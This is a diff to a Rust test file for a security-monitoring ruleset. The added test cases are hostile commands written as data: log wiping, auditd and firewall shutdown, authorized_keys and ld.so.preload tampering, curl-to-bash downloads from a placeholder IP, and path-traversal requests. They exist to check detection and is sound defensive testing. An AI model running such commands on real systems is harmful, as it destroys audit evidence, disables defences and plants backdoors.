@@ -58,12 +58,35 @@ fn each_rule_finds_what_it_is_for() {
         ("logging_stopped", vec![sudo("/usr/sbin/setenforce 0")]),
         ("logs_removed", vec![sudo("/usr/bin/rm -rf /var/log/auth.log")]),
         ("logs_removed", vec![sudo("/usr/bin/journalctl --vacuum-time=1s")]),
+        ("logs_removed", vec![sudo("/usr/bin/rm -rf /var/log")]),
+        ("logs_removed", vec![sudo("/bin/sh -c '> /var/log/auth.log'")]),
+        ("logs_removed", vec![sudo("/usr/bin/cp /dev/null /var/log/auth.log")]),
+        ("logs_removed", vec![sudo("/usr/bin/find /var/log -name *.gz -delete")]),
+        ("logging_stopped", vec![sudo("/usr/sbin/service auditd stop")]),
+        ("logging_stopped", vec![sudo("/usr/sbin/auditctl -D")]),
+        ("firewall_off", vec![sudo("/usr/sbin/iptables -t nat -F")]),
+        ("firewall_off", vec![sudo("/usr/sbin/ip6tables --flush")]),
+        ("firewall_off", vec![sudo("/usr/sbin/iptables -P INPUT ACCEPT")]),
+        ("privileged_file_changed", vec![sudo("sudoedit /etc/sudoers")]),
+        (
+            "privileged_file_changed",
+            vec![sudo("/bin/sh -c 'echo x >> /root/.ssh/authorized_keys'")],
+        ),
+        ("privileged_file_changed", vec![sudo("/usr/bin/sed -i.bak s/a/b/ /etc/pam.d/sshd")]),
+        ("privileged_file_changed", vec![sudo("/usr/bin/cp /tmp/x /etc/ld.so.preload")]),
+        (
+            "download_and_run",
+            vec![sudo("/bin/bash -c 'curl http://203.0.113.9/x | sudo -E bash -'")],
+        ),
+        ("download_and_run", vec![sudo("/bin/bash -c '$(curl http://203.0.113.9/x)'")]),
+        ("web_traversal_answered", vec![get("/a/%2e%2e%2f%2e%2e%2fetc/passwd", 200)]),
+        ("web_traversal_answered", vec![get("/cgi-bin/.%2e/.%2e/.%2e/bin/sh", 200)]),
         ("privileged_file_changed", vec![sudo("/usr/bin/tee -a /etc/sudoers.d/eve")]),
         ("privileged_file_changed", vec![sudo("/usr/bin/vim /root/.ssh/authorized_keys")]),
         ("web_traversal_answered", vec![get("/download?file=../../../etc/passwd", 200)]),
         (
             "web_probing",
-            ["/.env", "/.git/config", "/wp-login.php", "/phpmyadmin/", "/cgi-bin/test"]
+            ["/.env", "/.git/config", "/wp-login.php", "/phpmyadmin/", "/actuator/env"]
                 .map(|path| get(path, 404))
                 .into(),
         ),
@@ -98,6 +121,23 @@ fn everyday_work_is_left_alone() {
         get("/wp-login.php?again", 200),
         get("/wp-login.php", 200),
         get("/a?file=/etc/hosts", 200),
+        get("/search?q=/etc/passwd", 200),
+        get("/nagios/cgi-bin/status.cgi", 200),
+        get("/nagios/cgi-bin/tac.cgi", 200),
+        get("/nagios/cgi-bin/extinfo.cgi", 200),
+        get("/nagios/cgi-bin/avail.cgi", 200),
+        get("/nagios/cgi-bin/history.cgi", 200),
+        "Nov 20 11:57:00 web-1 usermod[4]: delete 'eve' from group 'sudo'".into(),
+        "Nov 20 11:57:00 web-1 gpasswd[4]: user eve removed by root from group sudo".into(),
+        "Nov 20 11:57:00 web-1 sudo: bob : command not allowed ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh -c curl http://192.0.2.9/x | sh".into(),
+        sudo("/usr/bin/dd if=/var/log/syslog of=/tmp/copy"),
+        sudo("/usr/bin/rm -rf /home/ci/rootfs/var/log/apt"),
+        sudo("/usr/bin/journalctl --vacuum-size=500M"),
+        sudo("/usr/sbin/auditctl -d always,exit -S all"),
+        sudo("/usr/bin/systemctl stop secmon-agent-test"),
+        sudo("/usr/sbin/iptables -F DOCKER-USER"),
+        sudo("/usr/bin/systemctl stop nginx iptables-exporter"),
+        sudo("/usr/bin/cp /etc/sudoers /root/backup"),
     ];
     let lines: Vec<&str> = everyday.iter().map(String::as_str).collect();
     assert_eq!(found(&lines), BTreeSet::new());
@@ -108,10 +148,7 @@ fn each_rule_says_its_technique_and_what_to_do() {
     let ruleset = shipped();
     let mut shown = 0;
     // Those that only correlations are told say nothing by themselves.
-    for rule in ruleset
-        .rules()
-        .filter(|rule| !["new_account", "remote_login", "web_probe"].contains(&rule.id()))
-    {
+    for rule in ruleset.rules().filter(|rule| !rule.id().starts_with("secmon_")) {
         let about = rule.about();
         assert!(about.technique.starts_with('T') && about.advice.len() > 40, "{}", rule.id());
         assert!(!about.description.is_empty() && about.advice.ends_with('.'), "{}", rule.id());
